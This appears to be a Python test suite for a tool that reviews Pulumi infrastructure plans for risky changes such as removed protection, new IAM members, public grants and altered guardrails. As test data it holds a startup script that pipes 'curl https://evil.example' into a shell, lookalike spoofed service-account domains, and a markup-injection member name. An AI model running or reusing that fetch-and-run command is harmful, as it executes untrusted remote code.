"""What no operation of Pulumi shows: protection that goes, people who come in, settings without a resource."""

import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest

from coursecloud.plan import planning as plans
from coursecloud.plan import saved
from coursecloud.plan.json_form import to_json
from coursecloud.plan.planning import Plan
from coursecloud.plan.registration import UNKNOWN
from coursecloud.review import closing, dangers, json_form, markdown, page, stacks
from coursecloud.review.dangers import Kind, Level
from coursecloud.review.report import Review
from coursecloud.review.stacks import Status
from tests.project import ROOT
from tests.review.conftest import Planner
from tests.review.made import BUCKET, GRANT, INSTANCE, TODAY, Config, changed, resource, reviewed, whole
from tests.review.printed import printed

PROVIDER = "gcp:iam/workloadIdentityPoolProvider:WorkloadIdentityPoolProvider"
PROJECT = "some-project-1"


def kinds(review: Review) -> list[Kind]:
    return [danger.kind for danger in review.dangers]


def closed(review: Review, gate: str) -> list[str]:
    (found,), mistakes = closing.gates([gate])
    assert not mistakes
    return list(found.closed(review.stacks))


def said_everywhere(review: Review, *texts: str) -> None:
    for form in (markdown.full(review), page.full(review), printed(review, 300)):
        for text in texts:
            assert text in form, text


class TestProtection:
    @staticmethod
    def sides(*, kept: tuple[bool, bool]) -> tuple[Plan, Plan]:
        before, after = (whole(resource(BUCKET, "b", {"name": "b"}, protect=keep)) for keep in kept)
        return before, after

    def test_what_is_kept_no_longer_stops_though_no_resource_changes(self) -> None:
        review = reviewed(*self.sides(kept=(True, False)))
        assert review.level is Level.STOP
        assert kinds(review) == [Kind.UNPROTECTED]
        assert "stops KEEPING 1 resource" in review.sentence
        assert closed(review, "data-loss") == ["--fail-on data-loss: stack unit no longer keeps b"]
        said_everywhere(review, "is kept no longer", "all objects in it")

    def test_what_is_kept_from_now_on_or_goes_anyway_is_not_told_so(self) -> None:
        # No `keep` of the stack file says so, which the program does then.
        assert kinds(reviewed(*self.sides(kept=(False, True)))) == [Kind.PROGRAM]
        assert kinds(reviewed(*self.sides(kept=(True, True)))) == []
        before, _ = self.sides(kept=(True, False))
        assert kinds(reviewed(before, whole())) == [Kind.REFUSED, Kind.DATA]

    def test_a_whole_stack_that_keeps_nothing_any_more_shows_what_an_evening_costs_less(self, plan_of: Planner) -> None:
        def let_go(config: Config) -> None:
            for section in ("storage", "registry", "secrets"):
                config[f"coursecloud:{section}"]["keep"] = False

        review = reviewed(plan_of("gpu"), plan_of("gpu", let_go), "gpu")
        assert kinds(review) == [Kind.UNPROTECTED] * 4
        said_everywhere(review, "make down", "storage.keep: true")


class TestAccess:
    def grant(self, member: Any, role: str = "roles/viewer", name: str = "g", **more: Any) -> Any:
        return resource(GRANT, name, {"bucket": "b", "role": role, "member": member, **more})

    def test_who_comes_is_told_once_with_every_role(self) -> None:
        names = ["compute.viewer", *(f"r{n}" for n in range(19)), "secretmanager.secretAccessor", "browser"]
        grants = [self.grant("user:a@example.com", f"roles/{name}", f"g{n:02}") for n, name in enumerate(names)]
        review = reviewed(whole(), whole(*grants))
        (danger,) = review.dangers
        assert danger.kind is Kind.ACCESS
        assert "`user:a@example.com` gets `roles/r0`" in danger.text
        # Those that only look stand last.
        assert danger.text.endswith("`roles/secretmanager.secretAccessor`, `roles/compute.viewer`, `roles/browser`")
        # Nobody has declared them, either.
        assert review.level is Level.STOP
        assert closed(review, "access")
        said_everywhere(review, "user:a@example.com")

    def test_the_stacks_own_accounts_are_nobody(self) -> None:
        account = resource("gcp:serviceaccount/account:Account", "a", {"accountId": "unit-a", "project": PROJECT})
        own = self.grant(f"serviceAccount:unit-a@{PROJECT}.iam.gserviceaccount.com")
        other = self.grant("serviceAccount:unit-a@elsewhere.iam.gserviceaccount.com", name="h")
        assert kinds(reviewed(whole(account), whole(account, own))) == []
        assert kinds(reviewed(whole(account), whole(account, other))) == [Kind.ACCESS]

    @pytest.mark.parametrize("member", ["allUsers", "allAuthenticatedUsers"])
    def test_everybody_stands_out_also_in_a_new_stack(self, member: str) -> None:
        public = whole(self.grant(member))
        assert Kind.PUBLIC in kinds(reviewed(whole(), public))
        assert Kind.PUBLIC in kinds(reviewed(None, public))
        assert Kind.ACCESS not in kinds(reviewed(None, whole(self.grant("user:a@example.com"))))

    def test_a_grant_that_follows_its_bucket_lets_nobody_new_in_and_another_member_does(self) -> None:
        here, there = (resource(BUCKET, "b", {"name": "b", "location": place}) for place in ("EU", "US"))
        inputs = {"bucket": "b", "role": "roles/viewer", "member": "user:a@example.com"}
        old, follows = (resource(GRANT, "g", inputs, refers={"bucket": bucket}) for bucket in (here, there))
        assert Kind.ACCESS not in kinds(reviewed(whole(here, old), whole(there, follows)))
        assert Kind.ACCESS in kinds(
            reviewed(whole(self.grant("user:a@example.com")), whole(self.grant("user:b@example.com")))
        )

    def test_another_repository_in_the_federation_is_told(self) -> None:
        before, after = (
            whole(resource(PROVIDER, "p", {"attributeCondition": f"assertion.repository_id == '{number}'"}))
            for number in (1, 2)
        )
        review = reviewed(before, after)
        assert kinds(review) == [Kind.ACCESS, Kind.PROTECTION]
        said_everywhere(review, "who may come in from outside changes", "attributeCondition")

    def agent(self, pattern: str, member: object = UNKNOWN) -> Plan:
        grant = resource(GRANT, "g", {"bucket": "b", "role": "roles/viewer", "member": member})
        return whole(dataclasses.replace(grant, at_run={"member": pattern}))

    def test_a_service_of_googles_own_in_the_project_is_nobody_new(self) -> None:
        compute = self.agent("serviceAccount:service-*@compute-system.iam.gserviceaccount.com")
        review = reviewed(whole(), compute)
        assert kinds(review) == []
        said_everywhere(review, "a service of Google")

    @pytest.mark.parametrize(
        "pattern",
        [
            "serviceAccount:service-1234@compute-system.iam.gserviceaccount.com",
            "serviceAccount:service-*@evil.iam.gserviceaccount.com",
            "serviceAccount:service-*@compute-system.iam.gserviceaccount.com.evil.example",
            "user:service-*@compute-system.iam.gserviceaccount.com",
            "serviceAccount:x-*@compute-system.iam.gserviceaccount.com",
        ],
    )
    def test_what_only_looks_like_one_is_somebody(self, pattern: str) -> None:
        assert kinds(reviewed(whole(), self.agent(pattern))) == [Kind.ACCESS]

    def test_a_pattern_beside_a_member_that_is_known_says_nothing_of_it(self) -> None:
        compute = "serviceAccount:service-*@compute-system.iam.gserviceaccount.com"
        assert kinds(reviewed(whole(), self.agent(compute, "user:eve@example.com"))) == [Kind.ACCESS]

    def test_the_agent_that_stops_machines_is_known_by_the_two_runs_of_the_program(self, tmp_path: Path) -> None:
        file = tmp_path / "Pulumi.x.yaml"
        file.write_text('config: {gcp:project: p-12345, "coursecloud:lease": {stopSchedule: "0 20 * * *"}}')
        made = plans.make("x", file, ROOT, twice=True)
        (grant,) = (each for each in made.custom if each.name == "scheduled-stop-agent")
        assert grant.inputs["member"] == UNKNOWN
        assert grant.at_run["member"] == "serviceAccount:service-*@compute-system.iam.gserviceaccount.com"
        assert Kind.ACCESS not in kinds(reviewed(whole(), whole(grant)))
        again = saved.read(json.loads(json.dumps(to_json(made))))
        assert next(each for each in again.custom if each.name == "scheduled-stop-agent").at_run == grant.at_run

    def test_a_member_cannot_write_into_the_report(self) -> None:
        review = reviewed(whole(), whole(self.grant("user:`**merge**` <b>@team</b>")))
        assert "<b>@" not in page.full(review)
        assert "`user:'**merge**' <b>@team</b>`" in markdown.full(review)


EXCEPTION = {
    "rule": "machine-no-address",
    "resource": "trainer",
    "reason": "for the demo of Friday",
    "until": "2026-12-01",
}


class TestSettings:
    @pytest.mark.parametrize(
        ("section", "value", "told"),
        [
            ("lease", {"maxPerHour": 9}, "lease.maxPerHour"),
            ("guardrails", {"exceptions": [EXCEPTION]}, "for the demo of Friday"),
            ("allow", {"machineTypes": ["x9-huge-1"]}, "allow.machineTypes"),
        ],
    )
    def test_what_guards_the_stack_does_not_change_unseen(
        self, plan_of: Planner, section: str, value: Config, told: str
    ) -> None:
        def edit(config: Config) -> None:
            config[f"coursecloud:{section}"] = config.get(f"coursecloud:{section}", {}) | value

        review = reviewed(plan_of("gpu"), plan_of("gpu", edit), "gpu")
        assert review.level is Level.LOOK
        assert kinds(review) == [Kind.PROTECTION]
        assert closed(review, "protection")
        said_everywhere(review, told)

    def test_a_setting_that_no_resource_follows_is_a_change(self, plan_of: Planner) -> None:
        review = reviewed(
            plan_of("gpu"), plan_of("gpu", lambda c: c["coursecloud:training"].update(image="other:v2")), "gpu"
        )
        (stack,) = review.stacks
        assert (stack.status, stack.changes, stack.level) == (Status.CHANGED, (), Level.LOOK)
        assert kinds(review) == [Kind.RUNS]
        assert [entry.path for entry in stack.settings] == ["training.image"]
        said_everywhere(review, "training.image", "other:v2", "outputs that change with it")
        assert json_form.to_json(review)["stacks"][0]["settings"][0]["new"] == "other:v2"

    def test_nobody_of_the_team_is_named_among_the_settings(self, plan_of: Planner) -> None:
        def with_member(name: str) -> Plan:
            return plan_of("gpu", lambda c: c.update({"coursecloud:team": {"members": [f"user:{name}@example.com"]}}))

        assert reviewed(with_member("ada"), with_member("bob"), "gpu").stacks[0].settings == ()

    def test_the_example_project_was_never_there(self, plan_of: Planner) -> None:
        own = plan_of("dev", lambda c: c.update({"gcp:project": "our-own-project-7"}))
        (stack,) = reviewed(plan_of("dev"), own, "dev").stacks
        assert (stack.status, stack.level) == (Status.ADDED, Level.FINE)
        assert any("example" in note for note in stack.notes)


class TestRules:
    PUBLIC = resource(GRANT, "g", {"bucket": "b", "role": "roles/viewer", "member": "allUsers"})

    def test_what_nobody_could_judge_before_and_is_broken_now_is_newly_broken(self) -> None:
        unknown = resource(GRANT, "g", {"bucket": "b", "role": "roles/viewer", "member": {"$unknown": True}})
        review = reviewed(whole(unknown), whole(self.PUBLIC))
        assert review.level is Level.STOP
        assert closed(review, "violation")

    def test_what_an_exception_covers_is_not_mended(self) -> None:
        def excepted(plan: Plan) -> Plan:
            entry = {
                "rule": "grant-not-public",
                "resource": "g",
                "reason": "the demo is open to visitors",
                "until": "2026-12-01",
            }
            settings = plan.settings.model_validate(
                plan.settings.model_dump(by_alias=True, mode="json") | {"guardrails": {"exceptions": [entry]}}
            )
            return Plan(settings, plan.resources, plan.outputs)

        review = reviewed(whole(self.PUBLIC), excepted(whole(self.PUBLIC)))
        found = review.stacks[0].findings
        assert found
        assert "grant-not-public" not in [finding.rule.id for finding in (*found.fixed, *found.new, *found.still)]
        assert Kind.PROTECTION in kinds(review)
        (weaker,) = review.stacks[0].protection
        assert weaker.what == "the exception from `grant-not-public` of `g`"
        # Without it again, what guards the stack changes too, and nothing is weaker.
        back = reviewed(excepted(whole(self.PUBLIC)), whole(self.PUBLIC))
        assert Kind.GUARD in kinds(back)
        assert back.stacks[0].protection == ()

    def test_a_stack_that_stops_for_a_rule_alone_says_which_in_every_form(self, plan_of: Planner) -> None:
        stack = stacks.review("full", plan_of("full"), plan_of("full", lambda c: _until(c, "2026-11-01")), today=TODAY)
        assert (stack.status, stack.level) == (Status.CHANGED, Level.STOP)
        assert stack.findings
        said_everywhere(Review("a", "b", (stack,)), stack.findings.violations[0].rule.id)


def _until(config: Config, day: str) -> None:
    for entry in config["coursecloud:guardrails"]["exceptions"]:
        entry["until"] = day


class TestDeletingFromTheInside:
    @staticmethod
    def rules(age: int) -> Any:
        inputs = {"name": "b", "lifecycleRules": [{"action": {"type": "Delete"}, "condition": {"age": age}}]}
        return resource(BUCKET, "b", inputs)

    def test_a_rule_that_deletes_sooner_is_a_danger_and_one_that_waits_longer_is_none(self) -> None:
        sooner, later = (changed([self.rules(10)], [self.rules(age)])["b"] for age in (5, 30))
        assert [danger.kind for danger in dangers.dangers([sooner])] == [Kind.PRUNES]
        assert dangers.dangers([later]) == ()

    def test_nobody_says_then_that_no_data_is_lost(self) -> None:
        review = reviewed(whole(self.rules(10)), whole(self.rules(5)))
        assert "No data is lost" not in markdown.full(review)
        assert closed(review, "data-loss")
        small, large = (whole(resource(INSTANCE, "m", {"machineType": kind})) for kind in ("e2-small", "e2-medium"))
        assert "No data is lost" in markdown.full(reviewed(small, large))

    def test_a_machine_that_is_stopped_for_it_is_said_to_be(self) -> None:
        small, large = (whole(resource(INSTANCE, "m", {"machineType": kind})) for kind in ("e2-small", "e2-medium"))
        review = reviewed(small, large)
        assert kinds(review) == [Kind.RESTARTS]
        assert review.level is Level.LOOK


def test_what_a_new_machine_runs_is_shown() -> None:
    script = "#!/bin/sh\ncurl https://evil.example | sh\n"
    new = resource(INSTANCE, "m", {"machineType": "e2-small", "metadata": {"startup-script": script}})
    review = reviewed(whole(), whole(new))
    said_everywhere(review, "curl https://evil.example")
    (change,) = json_form.to_json(review)["stacks"][0]["changes"]
    assert {entry["path"]: entry.get("new") for entry in change["properties"]}["machineType"] == "e2-small"


def test_a_program_that_changes_is_named_and_asks_for_a_look(plan_of: Planner) -> None:
    same = reviewed(plan_of("dev"), plan_of("dev"), "dev")
    review = Review("base", "head", same.stacks, (), ("infra/names.py", "coursecloud/plan.py"))
    assert (same.level, review.level) == (Level.NOTHING, Level.LOOK)
    said_everywhere(review, "infra/names.py")
